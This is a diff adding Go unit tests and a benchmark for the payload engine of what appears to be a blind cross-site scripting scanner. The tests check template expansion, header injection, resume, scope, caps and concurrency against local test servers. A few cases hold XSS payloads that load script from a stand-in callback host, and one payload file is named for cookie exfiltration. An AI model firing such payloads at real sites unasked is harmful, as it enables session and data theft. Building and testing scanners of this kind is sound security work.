@@ -0,0 +1,452 @@
+package payloads
+
+import (
+	"context"
+	"fmt"
+	"io"
+	"maps"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"sync"
+	"sync/atomic"
+	"testing"
+	"time"
+
+	"github.com/ethicalhackingplayground/bxss/v2/pkg/arguments"
+	"github.com/ethicalhackingplayground/bxss/v2/pkg/browser"
+	"github.com/ethicalhackingplayground/bxss/v2/pkg/checkpoint"
+	"github.com/ethicalhackingplayground/bxss/v2/pkg/logger"
+	"github.com/ethicalhackingplayground/bxss/v2/pkg/mutate"
+	"github.com/ethicalhackingplayground/bxss/v2/pkg/report"
+	"github.com/ethicalhackingplayground/bxss/v2/pkg/scan"
+	"github.com/ethicalhackingplayground/bxss/v2/pkg/scope"
+	"golang.org/x/time/rate"
+)
+
+func TestExpandTemplate(t *testing.T) {
+	p := NewPayload(&arguments.Arguments{CallbackURL: "https://cb.example"})
+	link := "https://target.example/search"
+
+	for payload, want := range map[string]string{
+		`<script src={{callback}}></script>`:                        `<script src=https://cb.example></script>`,
+		`<img src=x onerror=alert('{{url}}')>`:                      `<img src=x onerror=alert('https://target.example/search')>`,
+		`"><script>alert('{{unknown}}')</script>`:                   `"><script>alert('{{unknown}}')</script>`,
+		`<script src={{callback}}/{{param}}?u={{url}}&t={{token}}>`: `<script src=https://cb.example/{{param}}?u=https://target.example/search&t={{token}}>`,
+	} {
+		if got := p.expandTemplate(link, payload); got != want {
+			t.Errorf("expandTemplate(%q) = %q, want %q", payload, got, want)
+		}
+	}
+}
+
+func TestParamFilledPerName(t *testing.T) {
+	p := NewPayload(&arguments.Arguments{CallbackURL: "https://cb.example"})
+	payload := p.expandTemplate("https://target.example/", `<script src={{callback}}/{{param}}></script>`)
+
+	value, _ := scan.Fill(payload)("q")
+	if want := `<script src=https://cb.example/q></script>`; value != want {
+		t.Errorf("filled payload = %q, want %q", value, want)
+	}
+}
+
+func TestReadLinesNormalizes(t *testing.T) {
+	dir := t.TempDir()
+	first := filepath.Join(dir, "first.txt")
+	second := filepath.Join(dir, "second.txt")
+	if err := os.WriteFile(first, []byte("  <script>1</script>  \n\n# comment\n<svg>\n<script>1</script>\n\t\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(second, []byte("<svg>\n<img>\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+
+	p := NewPayload(&arguments.Arguments{PayloadFiles: []string{first, second}})
+	lines, err := p.ReadLinesFromFile()
+	if err != nil {
+		t.Fatalf("ReadLinesFromFile: %v", err)
+	}
+	if want := []string{"<script>1</script>", "<svg>", "<img>"}; !slices.Equal(lines, want) {
+		t.Errorf("payloads = %q, want %q", lines, want)
+	}
+	if p.Sources["<svg>"] != "first.txt" || p.Sources["<img>"] != "second.txt" {
+		t.Errorf("sources = %v", p.Sources)
+	}
+
+	p = NewPayload(&arguments.Arguments{PayloadFiles: []string{first, second}, KeepDuplicates: true})
+	lines, err = p.ReadLinesFromFile()
+	if err != nil {
+		t.Fatalf("ReadLinesFromFile: %v", err)
+	}
+	if want := []string{"<script>1</script>", "<svg>", "<script>1</script>", "<svg>", "<img>"}; !slices.Equal(lines, want) {
+		t.Errorf("payloads with -keep-duplicates = %q, want %q", lines, want)
+	}
+}
+
+func TestInjectAllFollowUp(t *testing.T) {
+	for _, tt := range []struct {
+		name      string
+		injectAll bool
+		fire      bool
+		want      int
+	}{
+		{"per parameter", false, false, 3},
+		{"inject all", true, false, 1},
+		{"inject all, fired", true, true, 1 + 3},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			var requests atomic.Int32
+			server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+				requests.Add(1)
+				io.WriteString(w, "ok")
+			}))
+			defer server.Close()
+
+			p := NewPayload(&arguments.Arguments{Method: http.MethodGet, Parameters: true, InjectAll: tt.injectAll, WorkerPool: 1})
+			config := p.scannerConfig(context.Background())
+			engine := &browser.FakeEngine{}
+			if tt.fire {
+				engine.Fire = browser.FireOn("a=%3Cb%3E", "1")
+			}
+			config.Engine = engine
+			config.Output = io.Discard
+			p.scanLink(context.Background(), nil, server.URL+"/?a=1&b=2&c=3", []string{"<b>"}, nil, config)
+
+			if got := int(requests.Load()); got != tt.want {
+				t.Errorf("%d requests, want %d", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestScannerConfigPoolTimeouts(t *testing.T) {
+	// The flags' 0 waits indefinitely, while a zero ScannerConfig keeps the
+	// pool's defaults
+	p := NewPayload(&arguments.Arguments{AcquireTimeout: 0, ReleaseTimeout: 2 * time.Second})
+	config := p.scannerConfig(context.Background())
+	if config.AcquireTimeout >= 0 || config.ReleaseTimeout != 2*time.Second {
+		t.Errorf("timeouts = %v, %v, want negative and 2s", config.AcquireTimeout, config.ReleaseTimeout)
+	}
+}
+
+func TestResumeSkipsCompletedPayloads(t *testing.T) {
+	ctx, crash := context.WithCancel(context.Background())
+	var mu sync.Mutex
+	var seen []string
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		payload := r.URL.Query().Get("q")
+		mu.Lock()
+		seen = append(seen, payload)
+		mu.Unlock()
+		// The first run dies while the second payload is being sent
+		if payload == "<p2>" {
+			crash()
+		}
+	}))
+	defer server.Close()
+
+	path := filepath.Join(t.TempDir(), "resume.log")
+	payloads := []string{"<p1>", "<p2>", "<p3>"}
+	run := func(ctx context.Context) []string {
+		log, err := checkpoint.Open(path)
+		if err != nil {
+			t.Fatalf("checkpoint.Open: %v", err)
+		}
+		defer log.Close()
+
+		mu.Lock()
+		seen = nil
+		mu.Unlock()
+		p := NewPayload(&arguments.Arguments{Method: http.MethodGet, Parameters: true, WorkerPool: 1})
+		p.Checkpoint = log
+		config := p.scannerConfig(ctx)
+		config.Engine = &browser.FakeEngine{}
+		config.Output = io.Discard
+		p.scanLink(ctx, nil, server.URL+"/?q=1", payloads, nil, config)
+
+		mu.Lock()
+		defer mu.Unlock()
+		return append([]string(nil), seen...)
+	}
+
+	if got := run(ctx); !slices.Equal(got, []string{"<p1>", "<p2>"}) {
+		t.Fatalf("first run sent %q, want it to stop at <p2>", got)
+	}
+	if got := run(context.Background()); !slices.Equal(got, []string{"<p2>", "<p3>"}) {
+		t.Errorf("resumed run sent %q, want only the payloads left", got)
+	}
+	if got := run(context.Background()); len(got) != 0 {
+		t.Errorf("finished scan sent %q again", got)
+	}
+}
+
+func TestHeaderFileExercisedWithEachPayload(t *testing.T) {
+	var mu sync.Mutex
+	exercised := make(map[string]int)
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		mu.Lock()
+		defer mu.Unlock()
+		for _, name := range []string{"X-Forwarded-For", "Referer", "X-Forwarded-Host", "X-Api-Version"} {
+			if value := r.Header.Get(name); strings.HasPrefix(value, "<p") {
+				exercised[name+" "+value]++
+			}
+		}
+	}))
+	defer server.Close()
+
+	path := filepath.Join(t.TempDir(), "headers.txt")
+	content := "# curated\nX-Forwarded-For\n\nReferer: https://ref.example/\nX-Forwarded-Host\nX-Forwarded-For\n"
+	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
+		t.Fatal(err)
+	}
+
+	p := NewPayload(&arguments.Arguments{Method: http.MethodGet, HeaderFile: path, Header: "X-Api-Version", WorkerPool: 1})
+	headers, err := p.ReadHeaders()
+	if err != nil {
+		t.Fatalf("ReadHeaders: %v", err)
+	}
+	if want := []string{"X-Forwarded-For", "Referer: https://ref.example/", "X-Forwarded-Host", "X-Api-Version"}; !slices.Equal(headers, want) {
+		t.Fatalf("headers = %q, want %q", headers, want)
+	}
+
+	p.Engine = &browser.FakeEngine{}
+	payloads := []string{"<p1>", "<p2>"}
+	p.scanLink(context.Background(), nil, server.URL+"/", payloads, headers, p.scannerConfig(context.Background()))
+
+	for _, header := range []string{"X-Forwarded-For", "Referer", "X-Forwarded-Host", "X-Api-Version"} {
+		for _, payload := range payloads {
+			if n := exercised[header+" "+payload]; n != 1 {
+				t.Errorf("%s sent with %s %d times, want once", header, payload, n)
+			}
+		}
+	}
+	if len(exercised) != 8 {
+		t.Errorf("exercised %v, want each header with each payload", exercised)
+	}
+}
+
+func TestOutOfScopeLinkSkipped(t *testing.T) {
+	var requests atomic.Int32
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		requests.Add(1)
+	}))
+	defer server.Close()
+
+	excluded, err := scope.New(nil, []string{"127.0.0.1"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	p := NewPayload(&arguments.Arguments{Method: http.MethodGet, Scope: excluded, WorkerPool: 1})
+	p.Engine = &browser.FakeEngine{}
+	p.ProcessPayloadsAndHeaders(context.Background(), nil, server.URL+"/?q=1", []string{"<b>"}, nil)
+
+	if n := requests.Load(); n != 0 {
+		t.Errorf("%d requests sent to an excluded host", n)
+	}
+}
+
+func TestFindingsTaggedWithPayloadFile(t *testing.T) {
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {}))
+	defer server.Close()
+
+	dir := t.TempDir()
+	exfil := filepath.Join(dir, "cookie-exfil.txt")
+	dom := filepath.Join(dir, "dom.txt")
+	if err := os.WriteFile(exfil, []byte("<exfil>\n<shared>\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(dom, []byte("<shared>\n<dom>\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+
+	p := NewPayload(&arguments.Arguments{Method: http.MethodGet, Parameters: true, PayloadFiles: []string{exfil, dom}, WorkerPool: 1})
+	payloads, err := p.ReadLinesFromFile()
+	if err != nil {
+		t.Fatalf("ReadLinesFromFile: %v", err)
+	}
+	findings := report.NewCollector()
+	p.Report = findings
+	p.Engine = &browser.FakeEngine{}
+	p.scanLink(context.Background(), nil, server.URL+"/?q=1", payloads, nil, p.scannerConfig(context.Background()))
+
+	sources := make(map[string]string)
+	for _, f := range findings.Findings() {
+		if previous, ok := sources[f.Payload]; ok && previous != f.Source {
+			t.Errorf("%s tagged with both %s and %s", f.Payload, previous, f.Source)
+		}
+		sources[f.Payload] = f.Source
+	}
+	want := map[string]string{"<exfil>": "cookie-exfil.txt", "<shared>": "cookie-exfil.txt", "<dom>": "dom.txt"}
+	if !maps.Equal(sources, want) {
+		t.Errorf("finding sources = %v, want %v", sources, want)
+	}
+}
+
+func TestStopOnFirstHit(t *testing.T) {
+	var mu sync.Mutex
+	var sent []string
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		mu.Lock()
+		sent = append(sent, r.URL.Query().Get("q"))
+		mu.Unlock()
+	}))
+	defer server.Close()
+
+	ctx, cancel := context.WithCancel(context.Background())
+	defer cancel()
+	collector := report.NewCollector()
+	var hit report.Finding
+	p := NewPayload(&arguments.Arguments{Method: http.MethodGet, Parameters: true, WorkerPool: 1})
+	p.Report = report.OnFirstConfirmed(collector, func(f report.Finding) {
+		hit = f
+		cancel()
+	})
+	config := p.scannerConfig(ctx)
+	config.Engine = &browser.FakeEngine{Fire: browser.FireOn("%3Cp2%3E", "1")}
+	config.Output = io.Discard
+	p.scanLink(ctx, nil, server.URL+"/?q=1", []string{"<p1>", "<p2>", "<p3>", "<p4>"}, nil, config)
+
+	if !slices.Equal(sent, []string{"<p1>", "<p2>"}) {
+		t.Errorf("injections sent = %q, want the scan to stop after the second", sent)
+	}
+	if hit.Payload != "<p2>" {
+		t.Errorf("first hit = %+v, want the second injection", hit)
+	}
+	if got := collector.Findings(); len(got) != 2 || !got[1].Confirmed || got[1].Payload != "<p2>" {
+		t.Errorf("findings = %+v, want those of the injections sent, the confirming one included", got)
+	}
+}
+
+func TestInjectionsCapped(t *testing.T) {
+	var mu sync.Mutex
+	injections := make(map[string]int)
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		mu.Lock()
+		defer mu.Unlock()
+		for name, values := range r.URL.Query() {
+			if strings.HasPrefix(values[0], "<p") {
+				injections[name+"="+values[0]]++
+			}
+		}
+	}))
+	defer server.Close()
+
+	p := NewPayload(&arguments.Arguments{Method: http.MethodGet, Parameters: true, WorkerPool: 1, MaxPayloads: 2, MaxParams: 3})
+	config := p.scannerConfig(context.Background())
+	config.Engine = &browser.FakeEngine{}
+	config.Output = io.Discard
+	payloads := []string{"<p1>", "<p2>", "<p3>", "<p4>", "<p5>"}
+	p.scanLink(context.Background(), nil, server.URL+"/?a=1&b=2&c=3&d=4&e=5", payloads, nil, config)
+
+	params, sampled := make(map[string]bool), make(map[string]bool)
+	for injection, n := range injections {
+		if n != 1 {
+			t.Errorf("%s injected %d times", injection, n)
+		}
+		name, payload, _ := strings.Cut(injection, "=")
+		params[name], sampled[payload] = true, true
+	}
+	if len(injections) != 2*3 || len(params) != 3 || len(sampled) != 2 {
+		t.Errorf("injections = %v, want 2 payloads into each of 3 parameters", injections)
+	}
+}
+
+func TestMutatorVariantsScanned(t *testing.T) {
+	mutate.Register("test-upper", func(payload string) []string {
+		return []string{strings.ToUpper(payload)}
+	})
+
+	var mu sync.Mutex
+	var sent []string
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		mu.Lock()
+		sent = append(sent, r.URL.Query().Get("q"))
+		mu.Unlock()
+	}))
+	defer server.Close()
+
+	p := NewPayload(&arguments.Arguments{Method: http.MethodGet, Parameters: true, WorkerPool: 1, Mutators: []string{"test-upper"}})
+	config := p.scannerConfig(context.Background())
+	config.Engine = &browser.FakeEngine{}
+	config.Output = io.Discard
+	p.scanLink(context.Background(), nil, server.URL+"/?q=1", []string{"<b>"}, nil, config)
+
+	if !slices.Equal(sent, []string{"<b>", "<B>"}) {
+		t.Errorf("payloads sent = %q, want the payload and its variant", sent)
+	}
+}
+
+func TestWorkersAttributeFindings(t *testing.T) {
+	server := newConcurrencyServer(t, 5*time.Millisecond)
+
+	var payloads []string
+	for i := 0; i < 12; i++ {
+		payloads = append(payloads, fmt.Sprintf("<p%d>", i))
+	}
+	headers := []string{"", "X-A", "X-B"}
+
+	findings := report.NewCollector()
+	p := NewPayload(&arguments.Arguments{Method: http.MethodGet, Parameters: true, WorkerPool: 4})
+	p.Report = findings
+	config := p.scannerConfig(context.Background())
+	config.Engine = &browser.FakeEngine{Fire: browser.FireOn("%3Cp7%3E", "1")}
+	config.Output = io.Discard
+	p.scanLink(context.Background(), nil, server.URL+"/?q=1", payloads, headers, config)
+
+	if server.max < 2 {
+		t.Errorf("at most %d requests in flight with 4 workers", server.max)
+	}
+	pairs := make(map[string]int)
+	for _, f := range findings.Findings() {
+		pairs[f.Payload+" "+f.Header]++
+		if f.Confirmed != (f.Payload == "<p7>") {
+			t.Errorf("%s with %q confirmed %v, only <p7> fires", f.Payload, f.Header, f.Confirmed)
+		}
+	}
+	for _, payload := range payloads {
+		for _, header := range headers {
+			if n := pairs[payload+" "+header]; n != 1 {
+				t.Errorf("%d findings for %s with %q, want 1", n, payload, header)
+			}
+		}
+	}
+}
+
+// BenchmarkScanLinkWorkers scans a URL with 32 payloads against a loopback
+// server taking a millisecond per request, to show throughput scaling with the
+// worker pool
+func BenchmarkScanLinkWorkers(b *testing.B) {
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		time.Sleep(time.Millisecond)
+	}))
+	defer server.Close()
+
+	// Keep the scan's log out of the benchmark output
+	std := logger.Default()
+	logger.SetDefault(std.To(io.Discard))
+	defer logger.SetDefault(std)
+
+	payloads := make([]string, 32)
+	for i := range payloads {
+		payloads[i] = fmt.Sprintf("<p%d>", i)
+	}
+
+	for _, workers := range []int{1, 2, 4, 8} {
+		b.Run(fmt.Sprintf("workers=%d", workers), func(b *testing.B) {
+			p := NewPayload(&arguments.Arguments{Method: http.MethodGet, Parameters: true, WorkerPool: workers})
+			config := p.scannerConfig(context.Background())
+			config.Engine = &browser.FakeEngine{}
+			config.Output = io.Discard
+			limiter := rate.NewLimiter(rate.Inf, 1)
+
+			b.ResetTimer()
+			for i := 0; i < b.N; i++ {
+				p.scanLink(context.Background(), limiter, server.URL+"/?q=1", payloads, nil, config)
+			}
+			b.ReportMetric(float64(b.N*len(payloads))/b.Elapsed().Seconds(), "injections/s")
+		})
+	}
+}